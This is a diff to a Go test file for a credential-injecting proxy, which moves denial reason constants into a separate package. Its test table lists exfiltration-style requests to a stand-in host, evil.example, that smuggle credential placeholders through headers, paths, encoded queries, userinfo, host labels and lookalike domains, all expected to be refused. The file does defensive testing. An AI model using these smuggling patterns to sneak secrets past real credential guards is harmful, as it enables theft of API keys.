@@ -11,6 +11,8 @@ import (
 	"strings"
 	"testing"
 	"testing/iotest"
+
+	"github.com/stackctl/stack/reason"
 )
 
 // memStore is an in-memory Store.
@@ -127,24 +129,24 @@ func TestApplyRefuses(t *testing.T) {
 		granted Granted
 		reason  string
 	}{
-		{"placeholder to unbound host", "https://evil.example/collect", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in path to unbound host", "https://evil.example/x/stk_ph_stripe", nil, grantAll, ReasonPlaceholderUnbound},
-		{"percent-encoded placeholder in query", "https://evil.example/x?k=stk%5Fph%5Fstripe", nil, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in the query name", "https://evil.example/x?stk_ph_stripe=1", nil, grantAll, ReasonPlaceholderUnbound},
-		{"percent-encoded placeholder in path", "https://evil.example/x/stk%5Fph%5Fstripe", nil, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in userinfo", "https://stk_ph_stripe@evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in userinfo password", "https://u:stk_ph_stripe@evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in host", "https://stk_ph_stripe.evil.example/", nil, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in an unscanned header", "https://evil.example/", map[string]string{"X-Whatever": "data stk_ph_github"}, grantAll, ReasonPlaceholderUnbound},
-		{"placeholder in basic to unbound host", "https://evil.example/", map[string]string{"Authorization": "Basic " + b64("u:stk_ph_stripe")}, grantAll, ReasonPlaceholderUnbound},
-		{"wildcard does not match apex", "https://openai.example/", map[string]string{"X-Api-Key": "stk_ph_openai"}, grantAll, ReasonPlaceholderUnbound},
-		{"wildcard does not match two labels", "https://a.b.openai.example/", map[string]string{"X-Api-Key": "stk_ph_openai"}, grantAll, ReasonPlaceholderUnbound},
-		{"suffix lookalike host", "https://api.stripe.com.evil.example/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, grantAll, ReasonPlaceholderUnbound},
-		{"unknown placeholder", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_nosuch"}, grantAll, ReasonPlaceholderUnknown},
-		{"not granted", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, func(string) bool { return false }, ReasonCredentialNotGranted},
-		{"nil grant func", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, nil, ReasonCredentialNotGranted},
-		{"agent's own key to managed host", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer sk_live_smuggled"}, grantAll, ReasonAgentCredential},
-		{"agent's own query key", "https://maps.example.com/geo?key=AIzaOWN", nil, grantAll, ReasonAgentCredential},
+		{"placeholder to unbound host", "https://evil.example/collect", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in path to unbound host", "https://evil.example/x/stk_ph_stripe", nil, grantAll, reason.PlaceholderUnbound},
+		{"percent-encoded placeholder in query", "https://evil.example/x?k=stk%5Fph%5Fstripe", nil, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in the query name", "https://evil.example/x?stk_ph_stripe=1", nil, grantAll, reason.PlaceholderUnbound},
+		{"percent-encoded placeholder in path", "https://evil.example/x/stk%5Fph%5Fstripe", nil, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in userinfo", "https://stk_ph_stripe@evil.example/", nil, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in userinfo password", "https://u:stk_ph_stripe@evil.example/", nil, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in host", "https://stk_ph_stripe.evil.example/", nil, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in an unscanned header", "https://evil.example/", map[string]string{"X-Whatever": "data stk_ph_github"}, grantAll, reason.PlaceholderUnbound},
+		{"placeholder in basic to unbound host", "https://evil.example/", map[string]string{"Authorization": "Basic " + b64("u:stk_ph_stripe")}, grantAll, reason.PlaceholderUnbound},
+		{"wildcard does not match apex", "https://openai.example/", map[string]string{"X-Api-Key": "stk_ph_openai"}, grantAll, reason.PlaceholderUnbound},
+		{"wildcard does not match two labels", "https://a.b.openai.example/", map[string]string{"X-Api-Key": "stk_ph_openai"}, grantAll, reason.PlaceholderUnbound},
+		{"suffix lookalike host", "https://api.stripe.com.evil.example/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, grantAll, reason.PlaceholderUnbound},
+		{"unknown placeholder", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_nosuch"}, grantAll, reason.PlaceholderUnknown},
+		{"not granted", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, func(string) bool { return false }, reason.ScopeDenied},
+		{"nil grant func", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer stk_ph_stripe"}, nil, reason.ScopeDenied},
+		{"agent's own key to managed host", "https://api.stripe.com/", map[string]string{"Authorization": "Bearer sk_live_smuggled"}, grantAll, reason.AgentCredentialRefused},
+		{"agent's own query key", "https://maps.example.com/geo?key=AIzaOWN", nil, grantAll, reason.AgentCredentialRefused},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -177,8 +179,8 @@ func TestApplyRefusesPlaceholderInFragment(t *testing.T) {
 	r.URL.Fragment = "stk_ph_stripe"
 	_, err := New(newStore(), Options{}).Apply(context.Background(), r, r.URL.Host, grantAll)
 	var de *DeniedError
-	if !errors.As(err, &de) || de.Reason != ReasonPlaceholderUnbound {
-		t.Fatalf("err = %v, want %s", err, ReasonPlaceholderUnbound)
+	if !errors.As(err, &de) || de.Reason != reason.PlaceholderUnbound {
+		t.Fatalf("err = %v, want %s", err, reason.PlaceholderUnbound)
 	}
 }
 
@@ -211,7 +213,7 @@ func TestKMSDownFailsClosed(t *testing.T) {
 	r.Header.Set("Authorization", "Bearer stk_ph_stripe")
 	_, err := New(store, Options{}).Apply(context.Background(), r, "api.stripe.com", grantAll)
 	var de *DeniedError
-	if !errors.As(err, &de) || de.Reason != ReasonCredentialUnavailable || de.Status() != http.StatusServiceUnavailable {
+	if !errors.As(err, &de) || de.Reason != reason.CredentialUnavailable || de.Status() != http.StatusServiceUnavailable {
 		t.Fatalf("err = %v, want credential_unavailable with 503", err)
 	}
 	if !strings.Contains(err.Error(), "local:///k") {
